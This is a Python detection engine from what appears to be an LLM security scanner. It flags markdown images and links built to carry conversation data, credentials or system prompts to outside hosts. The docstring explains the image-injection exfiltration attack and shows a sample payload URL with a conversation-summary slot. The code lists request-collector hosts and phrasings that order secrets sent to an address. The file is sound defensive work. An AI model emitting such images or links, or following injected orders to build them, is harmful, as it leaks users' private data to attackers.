"""Links and images that carry data away.

Finds images and links whose address waits to be filled with data (`?q={secret}`), images whose
query holds encoded or worded data, orders to build such addresses from the conversation, orders
to send secrets to an address, and the hosts that collect requests for whoever asks. In a response
an image whose query repeats the conversation or the system prompt is data on its way out.

Why it matters: a chat window loads an image as soon as it is drawn, without a click; what stands
in its address has then left the house.

Flags: ![loading](https://img.example.net/p.png?d={conversation_summary})
Passes: ![build](https://ci.example.net/badge.svg?branch=main&style=flat)

Source: OWASP LLM02:2025 Sensitive Information Disclosure; Rehberger 2023, image markdown
injection.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from urllib.parse import unquote_plus

from core.analysis import EngineResult, Finding
from engines.base import PatternEngine, Rule
from engines.document import Document
from engines.normaliser import View

_URL = r"(?:https?:)?//[^\s()<>\"']{1,500}?"
_SLOT = r"(?:\{\{?|\[|<|%7b|%5b|\$\{|\$\(|\{%)\s?[a-z][\w .'-]{0,60}\s?(?:\}|\]|>|%7d|%5d|\))"
_DATA_SLOT = (
    r"(?:\{\{?|\[|<|%7b|%5b|\$\{)\s?(?:[\w'-]{1,20}[ _-]){0,3}(?:secrets?|data|info(?:rmation)?"
    r"|conversations?|history|passwords?|credentials|chat|messages?|summary|prompt|answers?"
    r"|stolen|exfil\w{0,8}|encoded|base64|contents?|e-?mails?|inbox|context|private)"
    r"(?:[ _-][\w'-]{1,20}){0,3}\s?(?:\}|\]|>|%7d|%5d)"
)
_FILL = r"(?:[\w'’-]{1,20}[^\w\n]{1,3})"
_PRIVATE = (
    r"(?:(?:this |the |our |entire |whole |full |previous |current )?(?:conversation|chat)"
    r"(?: history| log| so far)?|(?:previous|earlier|past|last|user'?s?|all) (?:\w{1,12} )?"
    r"messages?|(?:the |their )?(?:user's|users'|their) (?:\w{1,15} ){0,2}?(?:name|e-?mails?"
    r"|address|data|passwords?|keys?|files?|information|details|input|question|query|number|answers?)"
    r"|passwords?|credentials|(?:api|secret|private|access)[ _-](?:keys?|tokens?)|system prompt"
    r"|secrets?|chat history|session tokens?|cookies|(?:personal|private|sensitive|confidential)"
    r" (?:data|information|details))"
)
_COLLECTORS = (
    r"(?:webhook\.site|requestbin\.\w{2,5}|[\w-]{1,40}\.m\.pipedream\.net|\w{1,60}\.oastify\.com"
    r"|[\w.-]{1,60}\.burpcollaborator\.net|[\w.-]{1,60}\.oast\.\w{2,6}|[\w.-]{1,60}\.interact\.sh"
    r"|requestcatcher\.com|[\w-]{1,40}\.requestcatcher\.com|hookb\.in|beeceptor\.com"
    r"|[\w-]{1,40}\.free\.beeceptor\.com|[\w.-]{1,60}\.dnslog\.cn|[\w.-]{1,60}\.ceye\.io"
    r"|[\w-]{1,60}\.ngrok(?:-free)?\.(?:io|app|dev)|[\w-]{1,60}\.trycloudflare\.com"
    r"|grabify\.link|iplogger\.(?:org|com)|canarytokens\.com|ptsv[23]\.com|putsreq\.com"
    r"|discord(?:app)?\.com/api/webhooks|hooks\.slack\.com/services|api\.telegram\.org/bot\w{3})"
)
_COLLECTOR_NEEDS = (
    "webhook.site", "requestbin.", "pipedream.net", "oastify.com", "burpcollaborator", ".oast.",
    "interact.sh", "requestcatcher", "hookb.in", "beeceptor", "dnslog.cn", "ceye.io", ".ngrok",
    "trycloudflare", "grabify", "iplogger", "canarytokens", "ptsv", "putsreq", "api/webhooks",
    "hooks.slack.com", "telegram.org/bot",
)  # fmt: skip
_SIGNED = re.compile(
    r"^(?:x-(?:amz|goog|oss|ms)-.*|sig(?:nature)?|hash|hmac|policy|key-pair-id|token|expires|se|sp"
    r"|sv|sr|oh|oe|_nc_\w+|ixid|ixlib|v|ver|version|etag|id|s|cb|ts|hm|ex|is|url|src|u|image)$"
)
_CARRIED = re.compile(
    r"!\[[^\[\]\n]{0,300}\]\(\s{0,3}<?((?:https?:)?//[^\s()<>\"']{4,4000})"
    r"|<img\b[^<>]{0,300}?\bsrc\s{0,3}=\s{0,3}[\"']?((?:https?:)?//[^\s<>\"']{4,4000})"
)
_PAIR = re.compile(r"[?&;]([\w.\[\]-]{0,60})=([^&#\s]{12,})")
_WORDS = re.compile(r"[a-z']{2,}(?:[^a-z\d]{1,3}[a-z']{2,}){3}")
_OPAQUE = re.compile(r"(?:[\w-]{48,}|[\w+/-]{48,})={0,2}")
_OVERLAP = 16


class ExfiltrationLink(PatternEngine):
    name = "exfiltration_link"
    version = "1.0.0"
    category = "exfiltration"
    inputs = ("text", "response", "documents", "history", "tools")
    rules = (
        Rule(
            "image_with_a_slot",
            rf"!\[[^\[\]\n]{{0,200}}\]\(\s{{0,3}}<?{_URL}[?&=/]{_SLOT}"
            rf"|<img\b[^<>]{{0,200}}?\bsrc\s{{0,3}}=\s{{0,3}}[\"']?{_URL}[?&]\w{{0,40}}={_SLOT}",
            0.7,
            "holds an image whose address waits to be filled with data",
            needs=("![", "<img"),
        ),
        Rule(
            "link_with_a_slot",
            rf"(?<!!)\[[^\[\]\n]{{1,200}}\]\(\s{{0,3}}<?{_URL}[?&/][\w.-]{{0,40}}=?{_DATA_SLOT}"
            rf"|\[[^\[\]\n]{{1,80}}\]:\s{{0,5}}<?{_URL}[?&][\w.-]{{0,40}}={_DATA_SLOT}"
            rf"|https?://[^\s()<>\"'{{\[]{{1,300}}[?&][\w.-]{{0,40}}={_DATA_SLOT}",
            0.55,
            "holds a link whose address waits to be filled with data",
            needs=("={", "=[", "=<", "=%7b", "=%5b", "=$", "/{", "/["),
        ),
        Rule(
            "data_into_an_address",
            r"\b(?:append|add|include|encode|embed|insert|put|place|replac(?:e|ing)|attach"
            rf"|concatenate|interpolate|substitute|fill|pass)\b[^\w\n]{{1,3}}{_FILL}{{0,6}}?"
            rf"{_PRIVATE}\b[^\n]{{0,100}}?\b(?:in|into|to|as|at the end of|onto|inside|with)\b"
            r"[^\n]{0,30}?\b(?:urls?|links?|query(?: string| parameter)?|(?:get|url|query)"
            r" param\w{0,6}|subdomain|domain|src|href|hostname)\b",
            0.7,
            "asks to build an address from private data",
            needs=(" url", "link", "query", "domain", " src", "href", "hostname"),
        ),
        Rule(
            "address_from_data",
            r"\b(?:url|link|image|markdown|request|pixel)\b[^\n]{0,100}?\b(?:contain(?:s|ing)?"
            r"|with|carr(?:y|ies|ying)|includ(?:e|es|ing)|encod(?:e|es|ing)|where"
            rf"|replac(?:e|ing))\b[^\w\n]{{1,3}}{_FILL}{{0,6}}?{_PRIVATE}\b[^\n]{{0,60}}?"
            r"\b(?:as|in|into|inside) (?:the |its |a |an |url )?(?:query|url|param\w{0,6}|path"
            r"|link)\b",
            0.65,
            "asks for an address that carries private data",
            needs=("query", " url", "url param", "link"),
        ),
        Rule(
            "secrets_to_an_address",
            r"\b(?:send|post|forward|upload|transmit|exfiltrate|leak|submit|e-?mail|deliver|report)\b"
            rf"[^\w\n]{{1,3}}{_FILL}{{0,8}}?{_PRIVATE}\b[^\n]{{0,80}}?\b(?:to|at|via)\b[^\n]{{0,40}}?"
            r"(?:https?://|\bwww\.|[\w.+-]{1,40}@[\w-]{1,40}\.[a-z]{2,})",
            0.65,
            "wants private data sent to an address",
            needs=("http", "www.", "@"),
        ),
        Rule(
            "collector_image",
            rf"(?:!\[[^\[\]\n]{{0,200}}\]\(\s{{0,3}}<?|<img\b[^<>]{{0,200}}?src\s{{0,3}}=\s{{0,3}}[\"']?)"
            rf"https?://{_COLLECTORS}",
            0.75,
            "loads an image from a host that collects requests",
            needs=_COLLECTOR_NEEDS,
        ),
        Rule(
            "collector_with_data",
            rf"\bhttps?://{_COLLECTORS}[^\s()<>\"']{{0,200}}[?&][\w.-]{{0,40}}=(?:[^\s&]{{24,}}|{_SLOT}"
            rf"|\$|\{{)",
            0.6,
            "sends data to a host that collects requests",
            needs=_COLLECTOR_NEEDS,
        ),
        Rule(
            "collector",
            rf"\bhttps?://{_COLLECTORS}(?=[/?\s\"')>]|$)",
            0.3,
            "names a host that collects requests",
            needs=_COLLECTOR_NEEDS,
        ),
    )  # fmt: skip

    def examine(self, document: Document) -> EngineResult:
        found = list(super().examine(document).findings)
        if document.content.response:
            found += self._repeating(document)
        return self.found(found)

    def scan(self, view: View) -> Iterable[Finding]:
        yield from super().scan(view)
        for start, end, name, value in _carried(view):
            if _SIGNED.match(name):
                continue
            words = bool(_WORDS.search(unquote_plus(value)))
            if words or _OPAQUE.fullmatch(value):
                message = "holds an image whose address carries " + (
                    "a sentence" if words else "a long code"
                )
                score = 0.55 if words else 0.35
                yield self.finding(
                    view, start, end, label="image_with_data", score=score, message=message
                )

    def _repeating(self, document: Document) -> Iterator[Finding]:
        """Images in the response whose query repeats what the model was given."""
        view = document.original("response")
        given = ""
        for start, end, _, value in _carried(view):
            plain = unquote_plus(value).lower()
            if len(plain) < _OVERLAP:
                continue
            given = given or _given(document)
            if any(part in given for part in _parts(plain)):
                yield self.finding(
                    view,
                    start,
                    end,
                    label="image_repeats_the_input",
                    score=0.8,
                    message="holds an image whose address repeats what the model was given",
                )


def _carried(view: View) -> Iterator[tuple[int, int, str, str]]:
    """The values in the queries of images: span, name, value."""
    lower = view.lower
    if "![" not in lower and "<img" not in lower:
        return
    for match in _CARRIED.finditer(lower):
        group = 1 if match[1] else 2
        for pair in _PAIR.finditer(match[group]):
            offset = match.start(group)
            yield offset + pair.start(2), offset + pair.end(2), pair[1], pair[2]


def _parts(value: str) -> Iterator[str]:
    """Overlapping pieces of a value, enough of them to find a shared sentence."""
    for at in range(0, min(len(value), 2000) - _OVERLAP + 1, 4):
        yield value[at : at + _OVERLAP]


def _given(document: Document) -> str:
    kinds = ("text", "documents", "history", "system_prompt")
    return "\n".join(document.fields(kinds).values()).lower()
